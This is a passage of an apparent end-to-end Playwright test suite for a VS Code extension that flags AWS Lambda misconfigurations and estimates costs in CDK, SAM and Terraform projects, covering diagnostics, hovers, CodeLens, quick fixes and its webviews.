    assert.ok((await codeLensTexts(page)).includes('Compare'), 'Compare beside it');
    await shot('14-cdk-construct-instances');
    await openFile(page, 'cdk/lib/shop-stack.ts');
    const sites = await waitFor('a CodeLens per instance', async () => {
      const texts = (await lensLines()).filter((t) => /\(OrdersService\)/.test(t));
      return texts.length === 3 && texts;
    });
    assert.match(sites[0], /^Dev \(OrdersService\): 1 workload, about \$[\d.,]+\/mo as written$/);
    await waitFor('the error squiggle on the argument that sets 12,000 MB', async () => (await squiggles(page, 'error')) === 1);
  });

  test('CDK in Python: a diagnostic, a hover and a CodeLens in a Python CDK stack', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await waitForProblem(page, {
      folder: 'stacks',
      file: 'billing_stack.py',
      line: 17,
      severity: 'error',
      ruleId: 'lambda/timeout-max',
      message: 'Timeout 960 s is above the Lambda maximum',
    });
    await openFile(page, 'cdk/app/stacks/billing_stack.py');
    await waitFor('the timeout error squiggle in the .py file', async () => (await squiggles(page, 'error')) === 1);
    const lens = await waitFor('the cost CodeLens above _lambda.Function', async () => (await codeLensTexts(page)).find((t) => /on Lambda/.test(t)));
    assert.match(lens, /^\$[\d.,]+\/mo on Lambda \(\$[\d.,]+–\$[\d.,]+(; \$[\d.,]+ (API Gateway|ALB))?\)(, cheapest$| · cheapest: )/);
    await hoverAt(page, 16, 25); // memory_size=2048
    const hover = await waitFor('the cost hover on memory_size', async () => {
      const text = await hoverText(page);
      return /Memory 2,048 MB/.test(text) && text;
    });
    assert.match(hover, /Memory 2048 MB \(template\)/);
    await shot('15-cdk-python');
    await page.keyboard.press('Escape');
  });

  test('cdk.out: a synthesized finding lands on the construct in the source, an unknown construct stays on the template', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    // The computed ephemeral storage is known only to the synthesized template; its finding is shown on `new lambda.Function`.
    await waitForProblem(page, {
      folder: 'lib',
      file: 'reports-stack.ts',
      line: 8,
      severity: 'error',
      ruleId: 'lambda/ephemeral-storage-range',
      message: 'Ephemeral storage 20,480 MB is outside the range',
      related: { text: 'ReportsStack.template.json: Reports6A1B3C5D', line: 15 },
    });
    // The timeout the source already reports is not repeated from the template.
    await waitForProblem(
      page,
      { folder: 'lib', file: 'reports-stack.ts', line: 8, severity: 'error', ruleId: 'lambda/timeout-max', message: '(from the synthesized template)' },
      { absent: true },
    );
    await waitForProblem(page, {
      folder: 'cdk.out',
      file: 'ReportsStack.template.json',
      line: 33,
      severity: 'error',
      ruleId: 'lambda/timeout-max',
      message: 'Timeout 1,000 s is above the Lambda maximum',
    });
    await openFile(page, 'cdk/lib/reports-stack.ts');
    await waitFor('both error squiggles in the stack (timeout, synthesized storage)', async () => (await squiggles(page, 'error')) === 2);
    await filterProblems(page, 'synthesized');
    await shot('16-cdk-out-mapped');
  });

  test('Terraform: the timeout behind an API Gateway integration on `timeout = 60`, the CodeLens, the hover on memory_size from terraform.tfvars, a quick fix in HCL, the comparison, and terraform.tfvars changed on disk', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    const problem = byId('terraform');
    // Listed by the workspace scan before the file is opened, on the 60 of `timeout       = 60` (line 8, column 19).
    const row = await waitForProblem(page, problem);
    assert.match(row, /\[Ln 8, Col 19\]/);
    assert.match(row, /Timeout 60 s is above the 29 s integration timeout of REST API aws_api_gateway_rest_api\.orders/);
    await openFile(page, 'terraform/main.tf');
    await waitFor('one warning squiggle in main.tf', async () => (await squiggles(page, 'warning')) === 1);
    // The squiggle sits on the timeout's line: the overlay line that holds it is at the same height as that text line.
    const tops = await waitFor('the squiggle on the timeout line', () =>
      page.evaluate(`(() => {
        const editor = document.querySelector('.editor-instance .monaco-editor');
        const squiggle = editor.querySelector('.view-overlays .squiggly-warning');
        const line = [...editor.querySelectorAll('.view-lines .view-line')].find((l) => /^\\s*timeout\\s+=\\s+60\\s*$/.test(l.textContent.replace(/\\u00a0/g, ' ')));
        return squiggle && line && { squiggle: Math.round(squiggle.getBoundingClientRect().top), line: Math.round(line.getBoundingClientRect().top), left: Math.round(squiggle.getBoundingClientRect().left - line.getBoundingClientRect().left), width: Math.round(squiggle.getBoundingClientRect().width), lineWidth: Math.round(line.getBoundingClientRect().width) };
      })()`),
    );
    assert.equal(tops.squiggle, tops.line, `the squiggle is on the timeout line: ${JSON.stringify(tops)}`);
    assert.ok(tops.left > 0 && tops.width < tops.lineWidth / 4, `under the value, not the whole line: ${JSON.stringify(tops)}`);
    await shot('23-terraform-squiggle');

    // The CodeLens above the function: its cost with the REST API's share, and Compare.
    const lens = await waitFor('the cost CodeLens above aws_lambda_function.api', async () => (await codeLensTexts(page)).find((t) => /on Lambda/.test(t)));
    assert.match(lens, /^\$[\d.,]+\/mo on Lambda \(\$[\d.,]+–\$[\d.,]+; \$[\d.,]+ API Gateway\)(, cheapest$| · cheapest: )/);
    assert.ok((await codeLensTexts(page)).includes('Compare'), 'a Compare lens next to it');
    // The hover on memory_size: the value terraform.tfvars gives var.memory (1024, over the default 512), and where it comes from.
    await runCommand(page, 'View: Hide Panel');
    await hoverAt(page, 7, 19); // memory_size   = var.memory
    const hover = await waitFor('the cost hover on memory_size', async () => {
      const text = await hoverText(page);
      return /Memory 1,024 MB/.test(text) && text;
    });
    assert.match(hover, /Value from var\.memory \(terraform\.tfvars\)/);
    assert.match(hover, /Memory 1024 MB \(template\)/);
    assert.match(hover, /about 0\.58 vCPU/);
    await shot('23-terraform-lens-hover');
    await page.keyboard.press('Escape');

    // The quick fix from Ctrl+.: the timeout lowered to 29 where it is written, in HCL.
    await goTo(page, 8, 19);
    await page.keyboard.press('Control+.');
    const titles = await waitFor('the quick fix menu', async () => {
      const texts = await quickFixTitles(page);
      return texts.some((t) => /Set Timeout to 29 s/i.test(t)) && texts;
    });
    const title = titles.map((t) => /Set Timeout to 29 s/i.exec(t)?.[0]).find(Boolean);
    assert.ok(
      titles.some((t) => t.includes('Ignore lambda/api-gateway-timeout for aws_lambda_function.api')),
      titles.join(' | '),
    );
    await shot('23-terraform-quick-fix-menu');
    await page.keyboard.press('Escape');
    await applyQuickFix(page, 8, 19, title);
    const timeoutLine = async () =>
      (
        await page
          .locator('.editor-instance .view-line', { hasText: /^\s*timeout\s/ })
          .first()
          .innerText()
      ).replace(/\u00a0/g, ' ');
    await waitFor('`timeout       = 29` in main.tf', async () => /^ {2}timeout {7}= 29$/.test(await timeoutLine()));
    await waitFor('the warning squiggle to go', async () => (await squiggles(page, 'warning')) === 0);
    await waitForProblem(page, problem, { absent: true });
    await shot('23-terraform-quick-fix');
    // Back to the file on disk for the tests after this one.
    await goTo(page, 8, 1);
    await runCommand(page, 'File: Revert File');
    await waitForProblem(page, problem);
    await waitFor('the warning squiggle back', async () => (await squiggles(page, 'warning')) === 1);

    // Compare, from the function's lens: the comparison of aws_lambda_function.api with the lens's figure and the tfvars memory.
    await runCommand(page, 'View: Hide Panel');
    const { view, frame, total } = await compareFromLens(page, 'aws_lambda_function.api');
    const lensLambda = Number(/^\$([\d.,]+)/.exec(lens)[1].replace(/,/g, ''));
    const viewLambda = await total('lambda-total');
    assert.ok(Math.abs(viewLambda - lensLambda) <= 1, `view Lambda ${viewLambda} vs lens ${lensLambda}`);
    assert.ok((await total('fargate-total')) > 0, 'a Fargate figure');
    assert.equal(await frame.locator('#memory').getAttribute('value'), '1024', 'the memory terraform.tfvars sets');
    assert.match(view, /Declared in terraform\/main\.tf:2/);
    assert.match(view, /API Gateway REST API/);
    await shot('23-terraform-compare');

    // terraform.tfvars changed on disk: main.tf (open) is analysed again with the folder's new value, the view follows.
    const tfvars = join(workspace, 'terraform', 'terraform.tfvars');
    const tfvarsBefore = readFileSync(tfvars, 'utf8');
    const memoryField = () => frame.locator('#memory').getAttribute('value').catch(() => '');
    try {
      writeFileSync(tfvars, tfvarsBefore.replace(/memory\s*=\s*1024/, 'memory = 2048'));
      await waitFor('the comparison with the memory terraform.tfvars now sets', async () => (await memoryField()) === '2048');
    } finally {
      writeFileSync(tfvars, tfvarsBefore);
    }
    await waitFor('the comparison back to the memory of terraform.tfvars as it was', async () => (await memoryField()) === '1024');

    // Nothing from .terraform/ (a module terraform init downloaded, with a 1,200 s timeout): not in the Problems
    // panel, not in the workspace summary, which lists the function of terraform/main.tf.
    await waitForProblem(
      page,
      { folder: '.terraform', file: 'main.tf', line: 5, severity: 'error', ruleId: 'lambda/timeout-max', message: 'Timeout 1,200 s is above the Lambda maximum' },
      { absent: true },
    );
    await runCommand(page, 'Crossover: Show Workspace Cost Summary');
    const summary = await waitFor('the summary listing aws_lambda_function.api', async () => {
      const text = await waitForFrameText(page, 'Workspace cost summary');
      return text.includes('aws_lambda_function.api') && text;
    }, { timeout: 60_000 });
    assert.doesNotMatch(summary, /vendored/);
    await runCommand(page, 'View: Close All Editors');
  });

  test('quick fix: memory into range makes the error go; the menu also offers ignore and the rule docs', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    const problem = {
      folder: 'fixes',
      file: 'template.yaml',
      line: 13,
      severity: 'error',
      ruleId: 'lambda/memory-range',
      message: 'Memory 20,000 MB is outside the range',
    };
    await waitForProblem(page, problem);
    await openFile(page, 'fixes/template.yaml');
    await waitFor('the memory error squiggle', async () => (await squiggles(page, 'error')) === 1);
    await goTo(page, 13, 19);
    await page.keyboard.press('Control+.');
    const titles = await waitFor('the quick fix menu', async () => {
      const texts = await quickFixTitles(page);
      return texts.some((t) => t.includes('Set memory to 10240 MB')) && texts;
    });
    assert.ok(
      titles.some((t) => t.includes('Ignore lambda/memory-range for ThumbnailFunction')),
      titles.join(' | '),
    );
    assert.ok(
      titles.some((t) => t.includes('Show documentation for lambda/memory-range')),
      titles.join(' | '),
    );
    await shot('17-quick-fix-menu');
    await page.keyboard.press('Escape');
    await applyQuickFix(page, 13, 19, 'Set memory to 10240 MB');
    await waitFor('the error squiggle to go', async () => (await squiggles(page, 'error')) === 0);
    await waitForProblem(page, problem, { absent: true });
    const line = await page.locator('.editor-instance .view-line', { hasText: 'MemorySize' }).first().innerText();
    assert.match(line.replace(/\u00a0/g, ' '), /MemorySize: 10240/);
    await shot('18-quick-fix-applied');
    // Leave the file as it is on disk for the tests after this one.
    await runCommand(page, 'File: Revert File');
    await waitForProblem(page, problem);
  });

  test('quick fixes from Globals: the timeout over the API limit and the deprecated runtime, both fixed in Globals', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    const timeout = {
      folder: 'signal',
      file: 'template.yaml',
      line: 12,
      severity: 'warning',
      ruleId: 'lambda/api-gateway-timeout',
      message: 'integration timeout of REST API',
    };
    await waitForProblem(page, timeout);
    await openFile(page, 'signal/template.yaml');
    const line = async (text) => (await page.locator('.editor-instance .view-line', { hasText: text }).first().innerText()).replace(/\u00a0/g, ' ');
    // Both functions are behind an API, so the fix lowers the inherited value in Globals, and says for whom.
    await applyQuickFix(page, 12, 3, 'Set Timeout to 29 s in Globals (for OrdersFunction and RefundsFunction, which inherit it)');
    await waitFor('Globals Timeout: 29', async () => /^ {4}Timeout: 29$/.test(await line('Timeout:')));
    await waitForProblem(page, timeout, { absent: true });
    await applyQuickFix(page, 12, 3, 'Use python3.14 in Globals');
    await waitFor('Globals Runtime: python3.14', async () => /^ {4}Runtime: python3\.14$/.test(await line('Runtime:')));
    await waitForProblem(page, { ...timeout, ruleId: 'lambda/deprecated-runtime', message: 'Runtime python3.9 was deprecated' }, { absent: true });
    await shot('19-globals-fixes-applied');
    await runCommand(page, 'File: Revert File');
    await waitForProblem(page, timeout);
  });

  test('Edit Usage Assumptions from the palette, with the cursor in a function, creates a valid usage file with its entry', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    const usageFile = join(workspace, 'crossover.usage.yml');
    const original = readFileSync(usageFile, 'utf8');
    try {
      // As in the issue: a folder without a usage file.
      rmSync(usageFile);
      await waitForLog(userData, /Usage file crossover\.usage\.yml removed/);
      await openFile(page, 'signal/template.yaml');
      await goTo(page, 24, 10); // Handler: refunds.handler, inside RefundsFunction
      await runCommand(page, 'Crossover: Edit Usage Assumptions');
      await page.locator('.tab.active', { hasText: 'crossover.usage.yml' }).first().waitFor({ timeout: 15_000 });
      await page.locator('.editor-instance .view-line', { hasText: 'RefundsFunction:' }).first().waitFor({ timeout: 15_000 });
      const written = readFileSync(usageFile, 'utf8');
      const usage = parseYaml(written);
      assert.deepEqual(Object.keys(usage.resources), ['RefundsFunction'], written);
      assert.ok(usage.resources.RefundsFunction.requestsPerMonth > 0 && usage.resources.RefundsFunction.averageDurationMs > 0, written);
      // Crossover does not flag its own file.
      await showProblems(page);
      await filterProblems(page, '');
      const rows = await problemRows(page);
      assert.deepEqual(
        rows.filter((r) => r.includes('crossover.usage.yml')),
        [],
      );
      await shot('20-edit-usage-from-palette');
    } finally {
      await runCommand(page, 'View: Close All Editors');
      writeFileSync(usageFile, original);
    }
  });

  test('the cost change against HEAD of an edited template: unsaved edits, then the same figures as crossover diff', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await runCommand(page, 'View: Hide Panel'); // room for the template and its report side by side
    const usageFile = join(workspace, 'crossover.usage.yml');
    const usageBefore = readFileSync(usageFile, 'utf8');
    try {
      // Three times the committed traffic in the usage file (on disk), and twice the memory typed into the template (unsaved).
      const committed = execFileSync('git', ['show', 'HEAD:crossover.usage.yml'], { cwd: workspace, encoding: 'utf8' });
      assert.match(committed, /CatalogFunction:\n\s+requestsPerMonth: 10000000\n/);
      writeFileSync(usageFile, committed.replace(/requestsPerMonth: 10000000\n/, 'requestsPerMonth: 30000000\n'));
      await openFile(page, 'cost/template.yaml');
      await replaceAt(page, 12, 19, 3, '1024');
      await runCommand(page, 'Crossover: Show Cost Change Against HEAD');
      const unsaved = await waitFor('the report of the unsaved edit', async () => {
        const text = await waitForFrameText(page, 'Cost change of cost/template.yaml against HEAD');
        return /the editor \(unsaved\)/.test(text) && /requests\/month 10,000,000 → 30,000,000/.test(text) && text;
      });
      assert.match(unsaved, /Lambda memory 512 MB → 1024 MB \(template\)/);
      assert.match(unsaved, /CatalogFunction \(Lambda\)\s+\$[\d.,]+ → \$[\d.,]+/);
      await shot('21-change-against-head-unsaved');
      // The report opens beside the template. Saved: the report follows, and its figures are those of
      // `crossover diff --base HEAD` on the same files.
      assert.equal(await page.locator('.editor-group-container').count(), 2, 'the template and its report side by side');
      await page.locator('.tab', { hasText: 'template.yaml' }).first().click();
      await page.keyboard.press('Control+S');
      const saved = await waitFor('the report after saving', async () => {
        const text = await waitForFrameText(page, 'Cost change of cost/template.yaml against HEAD');
        return /the working tree/.test(text) && text;
      });
      const cli = JSON.parse(
        execFileSync(process.execPath, [join(import.meta.dirname, '..', '..', 'bin', 'crossover.js'), 'diff', '--base', 'HEAD', 'cost', '--format', 'json'], {
          cwd: workspace,
          encoding: 'utf8',
        }),
      );
      const row = cli.workloads.find((w) => w.id === 'CatalogFunction');
      const usd = (n) => (Math.abs(n) >= 100 ? `$${Math.round(Math.abs(n)).toLocaleString('en-US')}` : `$${Math.abs(n).toFixed(2)}`);
      const expected = `${usd(row.before.lambda)} → ${usd(row.after.lambda)}`;
      assert.ok(saved.includes(expected), `the preview shows Lambda ${expected} as crossover diff does:\n${saved}`);
      assert.ok(saved.includes(`${usd(row.before.fargate)} → ${usd(row.after.fargate)}`), 'and the same Fargate figures');
      assert.ok(saved.includes(`+${usd(row.delta.deployed)}`), 'and the same change as deployed');
      await shot('21-change-against-head');
    } catch (error) {
      await shot('21-change-against-head-failed');
      throw error;
    } finally {
      // As before this test: the usage file as the earlier tests left it, the template as committed, no unsaved
      // edits. Best effort, so that a failure above is the one reported.
      writeFileSync(usageFile, usageBefore);
      execFileSync('git', ['checkout', '-q', '--', 'cost/template.yaml'], { cwd: workspace });
      const tab = page.locator('.tab', { hasText: 'template.yaml' }).first();
      if (await tab.isVisible().catch(() => false)) {
        await tab.click().catch(() => undefined);
        await runCommand(page, 'File: Revert File').catch(() => undefined);
      }
      await runCommand(page, 'View: Close All Editors').catch(() => undefined);
    }
  });

  test('hostile files are skipped with a log line or reported, and nothing throws in the extension host', async () => {
    const { crossover, extensionHost } = logs(userData);
    assert.match(crossover, /Crossover [\d.]+ activated in [\d.]+ ms/);
    assert.match(crossover, /Skipped hostile\/huge\/template\.yaml: 20\.0 MB is above crossover\.maxFileSizeKb/);
    assert.match(crossover, /Skipped hostile\/binary\/template\.yaml: it contains NUL bytes/);
    assert.match(crossover, /Workspace scan done in/);
    assert.doesNotMatch(crossover, /\[error\]/, 'no errors in the Crossover log');
    const ours = extensionHost.split('\n').filter((line) => /crossover/i.test(line) && /error|exception|failed/i.test(line));
    assert.deepEqual(ours, [], 'no errors from Crossover in the extension host log');
  });

  test("the extension's page shows Crossover's icon", async () => {
    // The README's images are not checked here: the Extensions view does not resolve relative image paths of an
    // installed extension (a run showed all three broken), so `vsce package` rewrites them to the repository's
    // URLs, which this offline editor cannot reach. test/meta/extension-page.test.ts checks them instead.
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await runCommand(page, 'Extensions: Show Enabled Extensions');
    await page.locator('.extensions-viewlet .extension-list-item', { hasText: 'Crossover' }).first().click();
    await page.locator('.tab', { hasText: 'Extension: Crossover' }).first().waitFor({ state: 'visible', timeout: 15_000 });
    const icon = page.locator('.extension-editor .header .icon').first();
    await waitFor('the icon loaded', async () => icon.evaluate((img) => img.complete && img.naturalWidth > 0).catch(() => false));
    assert.match((await icon.getAttribute('src')) ?? '', /icon\.png/, 'our icon, not the default one');
    await shot('22-extension-page');
    await runCommand(page, 'View: Close All Editors');
  });

  test('beside the editor at half width: the views fit, keys typed right after a click stay in the field, the summary survives a maximized panel', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await openFile(page, 'cost/template.yaml');
    const templateFile = join(workspace, 'cost', 'template.yaml');
    const templateBefore = readFileSync(templateFile, 'utf8');
    await waitFor('the Compare CodeLens', async () => (await codeLensTexts(page)).includes('Compare'));
    await page
      .locator('.editor-instance .codelens-decoration a', { hasText: /^Compare$/ })
      .first()
      .click();
    await page.locator('.tab', { hasText: 'Compare: CatalogFunction' }).first().waitFor({ state: 'visible', timeout: 15_000 });
    const frameWith = (selector) =>
      waitFor(`a webview frame with ${selector}`, async () => {
        for (const f of page.frames())
          if (
            (await f
              .locator(selector)
              .count()
              .catch(() => 0)) > 0
          )
            return f;
        return undefined;
      });
    const frame = await frameWith('#lambda-total');
    const fit = (f) => f.evaluate('({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth })');
    const compareFit = await fit(frame);
    assert.ok(compareFit.client > 300 && compareFit.client < 800, `the view sits beside the editor: ${compareFit.client} px wide`);
    assert.ok(compareFit.scroll <= compareFit.client, `no sideways scroll in the comparison: ${JSON.stringify(compareFit)}`);
    await shot('13-compare-half-width-dark');
    await pickColorTheme(page, 'Light Modern');
    await waitFor('the light theme', async () => (await page.locator('.monaco-workbench.vs').count()) > 0);
    await waitFor('the comparison redrawn in the light theme', async () => (await fit(await frameWith('#lambda-total'))).client > 0);
    await shot('13-compare-half-width-light');
    await pickColorTheme(page, 'Dark Modern');
    await waitFor('the dark theme again', async () => (await page.locator('.monaco-workbench.vs-dark').count()) > 0);

    // The focus: the template editor has the focus, a click into a field, keys typed at once.
    const view = await frameWith('#duration');
    const before = await view.locator('#duration input').inputValue();
    await page.locator('.editor-instance .view-line', { hasText: 'CatalogFunction' }).first().click();
    await view.locator('#duration input').click();
    await page.keyboard.type('7');
    await waitFor('the typed key in the field', async () => (await view.locator('#duration input').inputValue()).length === before.length + 1);
    assert.match(await view.locator('#duration input').inputValue(), /7/);
    assert.equal(await page.locator('.tab.dirty').count(), 0, 'no editor has unsaved changes');
    assert.equal(readFileSync(templateFile, 'utf8'), templateBefore, 'the template is unchanged');
    // Typed in, not entered: the figures follow, and the field says it differs from the template.
    await waitFor('the field marked as differing from the template', async () =>
      /differs from the template/.test(
        await view
          .locator('#duration-edited')
          .innerText()
          .catch(() => ''),
      ),
    );
    await view.locator('#duration-reset').click();
    await waitFor('the template value back after Reset', async () => (await view.locator('#duration input').inputValue()) === before);

    // The summary in the active group, beside the comparison: every column shown, no sideways scroll.
    await runCommand(page, 'Crossover: Show Workspace Cost Summary');
    const summaryFrame = await frameWith('#summary-table');
    const columns = async (f) =>
      f.evaluate(`(() => {
        const heads = document.querySelectorAll('#summary-table thead th').length;
        const cells = [...document.querySelectorAll('#summary-table tbody tr:first-child td')].map((td) => { const r = td.getBoundingClientRect(); return { width: r.width, right: r.right }; });
        return { heads, cells, client: document.documentElement.clientWidth, scroll: document.documentElement.scrollWidth };
      })()`);
    const half = await columns(summaryFrame);
    assert.ok(half.client < 800, `the summary sits beside the editor: ${half.client} px`);
    assert.ok(half.scroll <= half.client, `no sideways scroll in the summary: ${JSON.stringify(half)}`);
    assert.equal(half.cells.length, half.heads);
    for (const cell of half.cells) assert.ok(cell.width > 0 && cell.right <= half.client, `a summary column cut off: ${JSON.stringify(cell)}`);
    await shot('13-summary-half-width-dark');
    await pickColorTheme(page, 'Light Modern');
    await waitFor('the light theme', async () => (await page.locator('.monaco-workbench.vs').count()) > 0);
    await shot('13-summary-half-width-light');
    await pickColorTheme(page, 'Dark Modern');
    await waitFor('the dark theme again', async () => (await page.locator('.monaco-workbench.vs-dark').count()) > 0);

    // Maximize the panel (it covers the editors: the summary's webview is hidden, then made anew) and restore: the rows
    // come back, twice.
    const summaryTab = page.locator('.tab', { hasText: 'Workspace Cost Summary' }).first();
    const rowsShown = async () => {
      for (const f of page.frames())
        if (
          (await f
            .locator('#summary-table tbody tr')
            .count()
            .catch(() => 0)) > 0 &&
          (await f.evaluate('document.documentElement.clientWidth').catch(() => 0)) > 0
        )
          return f;
      return undefined;
    };
    /** What every frame shows, for the failure message. */
    const frames = async () =>
      JSON.stringify(
        await Promise.all(
          page
            .frames()
            .map((f) =>
              f
                .evaluate(
                  `({ url: location.pathname.slice(-40), width: document.documentElement.clientWidth, rows: document.querySelectorAll('#summary-table tbody tr').length, text: (document.body?.innerText ?? '').slice(0, 80) })`,
                )
                .catch((e) => String(e).slice(0, 60)),
            ),
        ),
      );
    for (const round of [1, 2]) {
      await showProblems(page);
      await runCommand(page, 'View: Toggle Maximized Panel');
      await waitFor('the editors covered by the maximized panel', async () => !(await summaryTab.isVisible()));
      await runCommand(page, 'View: Toggle Maximized Panel');
      await summaryTab.click();
      try {
        await waitFor(`the summary rows after the panel was maximized and restored (${round})`, rowsShown, { timeout: 45_000 });
      } catch (error) {
        await shot(`13-summary-after-maximize-failed-${round}`);
        throw new Error(`${error instanceof Error ? error.message : String(error)}; frames: ${await frames()}`, { cause: error });
      }
    }
    const body = await waitForFrameText(page, 'Workspace cost summary');
    assert.doesNotMatch(body, /Loading the/);
    await shot('13-summary-after-maximize');
    await runCommand(page, 'View: Close All Editors');
  });

  test('a screenshot for the README: squiggle, hover and the Problems panel', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await openFile(page, 'api/template.yaml');
    await showProblems(page);
    await filterProblems(page, '');
    await waitFor('the warning squiggle', async () => (await squiggles(page, 'warning')) > 0);
    await hoverAt(page, 22, 16);
    await shot('09-readme'); // docs/images/diagnostics.png is a copy of this one
  });
});
